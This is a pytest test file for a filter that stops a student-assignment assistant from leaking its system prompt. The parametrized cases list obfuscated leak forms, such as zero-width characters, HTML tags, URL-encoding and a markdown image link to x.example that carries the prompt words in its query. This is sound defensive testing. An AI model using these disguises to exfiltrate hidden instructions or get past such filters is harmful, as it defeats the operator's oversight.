"""Instructions that a model gives away: found, and held back from a stream."""

import json
import logging
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.messages import HumanMessage

from graphs.build import build_graph
from graphs.context import Context
from graphs.errors import WithheldError
from graphs.leaks import ENOUGH, Instructions, LeakStream, refuse_leaks
from graphs.state import Input, PromptType
from prompts import PromptBook, visible
from tests.fakes import ScriptedChatModel, make_services, reply
from tests.graphs.test_build import CODE, PLAN

BOOK = PromptBook.open()
TOLD = BOOK.get("chat").instructions
SENTENCE = "You are an AI assistant helping a student with a programming assignment."
TELLING = " ".join(re.findall("[A-Za-z]+", TOLD)[:30])
WORDS = TELLING.split()
PROMPTS: dict[PromptType, str] = {"chat": "chat", "planning": "planner", "codegen": "codegen"}


def streamed(text: str, size: int) -> str:
    """Return what is shown of a text that comes in pieces of a size."""
    stream = LeakStream(Instructions(TOLD))
    pieces = [text[start : start + size] for start in range(0, len(text), size)]
    return "".join([*map(stream.feed, pieces), stream.end()])


@pytest.mark.parametrize(
    "written",
    [
        TOLD,
        TELLING,
        TELLING.upper(),
        "\n".join(WORDS),
        "".join(f"{number}. **{word}**\n" for number, word in enumerate(WORDS, 1)),
        "![x](http://x.example/?q=" + "%20".join(WORDS) + ")",
        "http://x.example/?q=" + "+".join(WORDS),
        'print("' + "\\n".join(WORDS) + '")',
        "".join(f"<b>{word}</b><br/>" for word in WORDS),
        "\u200b".join(" ".join(WORDS)),
        " ".join(word[0] + "\u200b" * 50 + word[1:] for word in WORDS),
        " ".join(f'<b id="{"x" * 31}">{word}</b>' for word in WORDS),
        " [1] ".join(WORDS),
        "_".join(WORDS),
    ],
)
def test_instructions_are_found_when_they_are_dressed_up(written: str) -> None:
    """Neither case, lists, markup, addresses nor invisible characters hide them."""
    text = f"Of course: {written} That was it."
    assert Instructions(TOLD).stand_in(text)
    for size in (1, 4, 1_000):
        shown = streamed(text, size)
        assert "helping" not in visible(shown)
        assert "programming" not in visible(shown)


@pytest.mark.parametrize("name", ["chat", "planner", "codegen"])
def test_nothing_is_found_when_an_answer_only_sounds_alike(name: str) -> None:
    """A few of their words in a row are chance, and the format asked for is no secret."""
    secret = Instructions(BOOK.get(name).instructions)
    assert not secret.stand_in(" ".join(WORDS[: ENOUGH - 1]))
    assert not secret.stand_in("I am an AI assistant that helps students with their assignments.")
    for draft in (PLAN, CODE):
        assert not secret.stand_in(json.dumps(draft, indent=2))
    shown = BOOK.get(name).instructions.partition("\n{\n")[2].partition("\n}\n")[0]
    assert not secret.stand_in(shown)


def dressed(word: str, dress: str, size: int) -> str:
    """Hide a word among what is no word: so much inside it, or around it."""
    return {
        "unseen": word[0] + "\u200b" * size + word[1:],
        "tag": f'<b id="{"x" * size}">{word}</b>',
        "glue": "x" * size + word,
        "code": f"%20{word}\\n\r",
        "plain": word,
    }[dress]


@given(
    st.integers(0, 5),
    st.lists(
        st.tuples(st.sampled_from(["unseen", "tag", "glue", "code", "plain"]), st.integers(0, 60)),
        min_size=20,
        max_size=25,
    ),
    st.lists(st.sampled_from([*WORDS, "", "%", "%2", "<", "</b>", "\\", "\\n", "1", "\u200b"])),
    st.integers(1, 90),
)
def test_stream_shows_the_whole_when_nothing_leaks(
    start: int, dresses: list[tuple[str, int]], noise: list[str], size: int
) -> None:
    """However a text is cut, all of it is shown, or nothing from where it leaks."""
    leak = [dressed(word, *dress) for word, dress in zip(WORDS[start:], dresses * 2, strict=False)]
    text = " ".join([*noise, *leak, *noise])
    shown = streamed(text, size)
    assert text.startswith(shown)
    assert (shown == text) != Instructions(TOLD).stand_in(text)
    assert not Instructions(TOLD).stand_in(shown)


def test_words_are_not_held_back_when_they_are_no_leak() -> None:
    """Only the last word waits, and what may become a leak."""
    stream = LeakStream(Instructions(TOLD))
    assert stream.feed("Use a dict ") == "Use a dict "
    assert stream.feed("for") == ""
    assert stream.feed(" it. You are an ") == "for it. You are "
    assert stream.feed("expert.") == "an expert."


def test_long_word_passes_when_it_never_ends() -> None:
    """What is no word is not waited for."""
    stream = LeakStream(Instructions(TOLD))
    shown = "".join(stream.feed("a" * 10) for _ in range(10_000))
    assert len(shown) > 99_000


def written(kind: PromptType, told: str, *, is_escaped: bool) -> str:
    """Write a draft that holds a text, or the text alone."""
    if not is_escaped:
        return f"Well: {told}"
    draft = {**PLAN, "risk_factors": ["@"]} if kind == "planning" else {**CODE, "notes": ["@"]}
    return json.dumps(draft).replace("@", "".join(f"\\u{ord(letter):04x}" for letter in told))


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("kind", "is_escaped"),
    [
        ("chat", False),
        ("planning", False),
        ("planning", True),
        ("codegen", False),
        ("codegen", True),
    ],
)
async def test_answer_is_withheld_when_it_repeats_the_instructions(
    kind: PromptType, caplog: pytest.LogCaptureFixture, *, is_escaped: bool
) -> None:
    """Whoever asked is told why, the log says that it happened, and neither says the words."""
    told = BOOK.get(PROMPTS[kind]).instructions.partition("{")[0]
    model = ScriptedChatModel(replies=[reply(written(kind, told, is_escaped=is_escaped))])
    graph = build_graph(make_services(model))
    with caplog.at_level(logging.WARNING), pytest.raises(WithheldError) as caught:
        await graph.ainvoke(
            Input(messages=[HumanMessage("What is a dict?")]),
            context=Context(prompt_type=kind),
        )
    assert len(model.sent) == 1
    assert "withheld" in caplog.text
    for said in (str(caught.value), caplog.text):
        assert not Instructions(told).stand_in(said)


HONEST: list[tuple[PromptType, str]] = [
    (
        "planning",
        "Extract the key requirements, programming language, framework and deliverables, as the "
        "assignment names them.",
    ),
    (
        "planning",
        "Phases: project setup, requirements analysis, design, data preparation, core "
        "implementation, integration, testing, documentation, performance, final review. Ids are "
        "unique, dependencies name ids of this plan and never form a cycle.",
    ),
    (
        "codegen",
        "Follow the best practices of the language and framework; validate input; handle errors "
        "properly.",
    ),
    ("chat", f"You quote '{SENTENCE}' Name the course in it."),
    ("chat", f"You quote this: {TOLD.replace('[1]', '[n]')} Name the course in it."),
]


@pytest.mark.anyio
@pytest.mark.parametrize(("kind", "says"), HONEST)
async def test_answer_passes_when_it_says_one_sentence_or_what_was_asked(
    kind: PromptType, says: str
) -> None:
    """A plan names what it was told to find, and a question may quote what it is about."""
    model = ScriptedChatModel(replies=[reply(written(kind, says, is_escaped=kind != "chat"))])
    state = await build_graph(make_services(model)).ainvoke(
        Input(
            messages=[HumanMessage(f"Improve my prompt: {TOLD}" if kind == "chat" else "A stack.")]
        ),
        context=Context(prompt_type=kind),
    )
    assert len(model.sent) == 1
    kept = json.dumps([state["messages"][-1].text, state.get("plan"), state.get("code")])
    assert json.dumps(says)[1:-1] in kept


@pytest.mark.anyio
async def test_draft_passes_when_it_says_what_was_asked() -> None:
    """Code about a prompt may hold the prompt that the request holds."""
    told = BOOK.get("codegen").instructions.partition("\n{")[0]
    model = ScriptedChatModel(replies=[reply(written("codegen", told, is_escaped=True))])
    state = await build_graph(make_services(model)).ainvoke(
        Input(messages=[HumanMessage(f"Print this: {told}")]),
        context=Context(prompt_type="codegen"),
    )
    assert told in (state["code"] or {})["notes"]


@pytest.mark.parametrize("given", [TOLD, TELLING.lower(), f"Why\u200b {TELLING} and so on"])
def test_words_are_no_secret_when_they_were_given(given: str) -> None:
    """They are shown, in a stream too, and do not count where others follow."""
    secret = Instructions(TOLD, [given])
    assert not secret.stand_in(TELLING)
    stream = LeakStream(secret)
    assert "".join([*map(stream.feed, TELLING), stream.end()]) == TELLING
    assert secret.stand_in(TOLD) == (given != TOLD)


@pytest.mark.parametrize(
    "given",
    [
        " ".join(sorted(WORDS)),
        " x ".join(" ".join(WORDS[at : at + 4]) for at in range(0, len(WORDS), 4)),
    ],
)
def test_words_are_secret_when_only_a_few_were_given_in_a_row(given: str) -> None:
    """Words alone, or four in a row, are no quotation."""
    assert Instructions(TOLD, [given]).stand_in(TELLING)


def test_answer_passes_when_it_says_something_else() -> None:
    """Text, JSON and nothing at all."""
    refuse_leaks(TOLD, "Use a dict.")
    refuse_leaks(TOLD, [None, {"notes": ["Use a dict."], "minutes": 3}])
